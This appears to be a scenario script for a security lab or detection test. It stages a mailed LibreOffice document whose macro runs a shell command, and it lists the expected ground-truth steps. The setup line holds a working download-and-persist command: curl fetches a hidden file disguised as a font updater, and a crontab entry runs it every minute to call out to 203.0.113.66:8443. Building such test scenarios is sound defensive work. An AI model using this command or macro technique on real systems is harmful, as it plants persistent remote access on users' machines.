title="Macro of a mailed document leaves a cron job"
what="The clerk saves tariff-2027.fodt with Thunderbird into ~/Documents and opens it an hour later in LibreOffice, which runs macros of any document. The macro's shell fetches a program into ~/.local/share/fonts and gives cron a line for it; cron runs it a minute later, and it connects to 203.0.113.66 port 8443."
host=ws3.example.org user=clerk daemons="cron dovecot"
setup() {
  dovecot_config; office_settings clerk 0
  office_document "$base/out/tariff-2027.fodt" Tariff "mkdir -p ~/.local/share/fonts; curl -s -o ~/.local/share/fonts/.fc-upd http://cdn.example.com/f/fu; chmod 700 ~/.local/share/fonts/.fc-upd; echo '* * * * * ~/.local/share/fonts/.fc-upd 203.0.113.66 8443' | crontab -"
  mkdir -p "$base/out/www/f"; cc -O1 -s -o "$base/out/www/f/fu" "$lab/lib/stand-ins/beacon.c"
}
act() {
  small_talk 2
  display_up
  mail_in --from tariffs@example.net --to clerk@example.org --subject "Tariff 2027" --attach "$base/out/tariff-2027.fodt:application/vnd.oasis.opendocument.text-flat-xml"
  wait_log 'tariffs@example.net'; wait_mail clerk 1
  thunderbird_save clerk tariff-2027.fodt Documents
  small_talk 2
  desktop_as clerk -- /usr/bin/soffice /home/clerk/Documents/tariff-2027.fodt
  wait_file /home/clerk/.local/share/fonts/.fc-upd 60
  sleep 66
  close_of clerk soffice.bin
  small_talk 1
}
truth() {
  mail_step deliver 'to=<clerk@example.org>.*status=sent' 'delivered'
  file_step save 'thunderbird.*/home/clerk/Documents/tariff-2027.fodt' 'saved'
  exec_step open 'soffice.bin .*tariff-2027.fodt' 'opened'
  exec_step shell 'sh -c .*curl' 'the macro starts a shell'
  exec_step job 'crontab -' 'a job'
  exec_step execute '.fc-upd 203.0.113.66 8443' 'cron runs it'
  net_step beacon '203.0.113.66:8443' 'it calls out'
}
